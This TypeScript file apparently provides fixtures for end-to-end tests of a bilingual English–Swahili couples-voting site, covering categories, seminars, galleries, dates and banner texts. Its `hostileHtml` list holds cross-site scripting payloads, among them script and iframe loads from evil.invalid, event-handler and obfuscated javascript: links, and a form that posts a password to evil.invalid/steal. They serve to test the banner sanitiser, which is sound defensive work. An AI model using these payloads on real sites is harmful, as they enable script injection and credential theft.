import type { Tickets } from "./tickets.ts";

/** A couple of the tests' site. */
export type Couple = { id: number; husband: string; wife: string };

/** A category of the tests' site, with its couples in the order in which they are shown. */
export type Category = {
	id: number;
	code: string;
	name: string;
	nameSw: string;
	description: string;
	couples: Couple[];
};

/** A seminar or an event of the tests' site. */
export type Occasion = { id: number; name: string; nameSw: string; price: number; photos: string[] };

/** A gallery of the tests' site; `photos` are its pictures' descriptions. */
export type Gallery = { id: number; name: string; nameSw: string; description: string; photos: string[] };

/** The content of the seminar, event and gallery pages; `listings.ts` has the texts. */
export type Listings = {
	seminars: {
		/** Began two days ago, ends in two days; no photo. */
		underWay: Occasion;
		/** One free evening with one photo. */
		evening: Occasion;
		/** Two paid days with three photos and a video; begins at `opensAt`. */
		weekend: Occasion;
		/** Every text is very long and full of markup. */
		long: Occasion;
		past: Occasion;
		pastPaid: Occasion;
	};
	events: {
		/** Free, one photo. */
		walk: Occasion;
		/** Paid, three photos and a video. */
		dinner: Occasion;
		past: Occasion;
	};
	galleries: {
		/** Six photos, captions under some. */
		feast: Gallery;
		single: Gallery;
		empty: Gallery;
	};
};

/** The content of the tests' site; each category is one state of the nominees page. */
export type SiteContent = {
	listings: Listings;
	/** Of the walk. */
	tickets: Tickets;
	/** Open, four couples with photos, votes as in `readingVotes`; nobody votes there. */
	reading: Category;
	/** Open, 60 couples without photos. */
	many: Category;
	/** Open, one couple with very long names. */
	longNames: Category;
	/** Of `longNames`, and not shown there any more. */
	withdrawn: Couple;
	/** No couples. */
	empty: Category;
	/** Opens at `opensAt`. */
	notOpen: Category;
	/** Closed at `closedAt`. */
	closed: Category;
	/** Open, closes two hours after the tests began. */
	closing: Category;
	/** Open, four couples; one for each worker to vote in, so that no other test changes its counts. */
	votingCategories: Category[];
};

/** The texts on the page of the first couple of `reading`. */
export const coupleWords = {
	details: {
		story: "They met in the choir.",
		storySw: "Walikutana kwaya.",
		church: "Moshi Town Parish",
		churchSw: "Usharika wa Moshi Mjini",
		region: "Coast",
		regionSw: "Pwani",
		marriedYear: 2009,
	},
	photo: "The two of them at the sea",
	photoSw: "Wawili hao wakiwa baharini",
} as const;

/** Votes that the couples of `reading` have from the start, in order. */
export const readingVotes = [1234, 1, 0, 12];

/** Both moments as a visitor reads them in Dar es Salaam. */
export const opensAt = {
	utc: "2099-12-05T14:00:00Z",
	en: "Saturday, 5\u00a0December 2099, 5:00\u00a0pm",
	sw: "Jumamosi, 5\u00a0Desemba 2099, saa\u00a011:00\u00a0jioni",
};
export const closedAt = {
	utc: "2025-05-31T15:30:00Z",
	en: "Saturday, 31\u00a0May 2025, 6:30\u00a0pm",
	sw: "Jumamosi, 31\u00a0Mei 2025, saa\u00a012:30\u00a0jioni",
};

/** Words of the banners that must reach the page. */
export const bannerWords = {
	homepage: { title: "Love that endures", emphasis: "endures", text: "Give your couple your vote." },
	homepageSw: { title: "Tunasherehekea upendo", text: "Wape wanandoa wako kura yako." },
	seminar: { title: "Listen to one another", text: "Two evenings for husbands and wives." },
	seminarSw: { title: "Sikilizaneni", text: "Jioni mbili za waume na wake." },
	hostile: { title: "Dinner for two", text: "Come with your family." },
} as const;

/** Banner HTML with every attack the site must withstand; one that succeeds writes its name to `window.hostile`. */
export const hostileHtml = [
	`<strong>${bannerWords.hostile.text}</strong>`,
	`<script>window.hostile = "script"</script>`,
	`<script src="https://evil.invalid/script.js"></script>`,
	`<img src="data:image/png;base64,broken" onerror="window.hostile = 'handler'">`,
	`<svg onload="window.hostile = 'svg'"><script>window.hostile = "svg script"</script></svg>`,
	`<a class="trap" href="javascript:void(window.hostile='link')">Tickets</a>`,
	`<a class="trap" href="java&#9;script:void(window.hostile='tab')">More</a>`,
	`<iframe srcdoc="<script>parent.hostile = 'frame'</script>"></iframe>`,
	`<iframe src="https://evil.invalid/frame"></iframe>`,
	`<style>main { display: none }</style>`,
	`<p style="position: fixed; inset: 0; background: url(https://evil.invalid/cover.png)">Cover</p>`,
	`<link rel="stylesheet" href="https://evil.invalid/style.css">`,
	`<base href="https://evil.invalid/">`,
	`<object data="https://evil.invalid/object"></object>`,
	`<form action="https://evil.invalid/steal"><input name="password"><button>Send</button></form>`,
].join("\n");

/** The site's content, handed over by the global set-up. */
export function siteContent(): SiteContent {
	return JSON.parse(process.env.E2E_CONTENT ?? "null") as SiteContent;
}
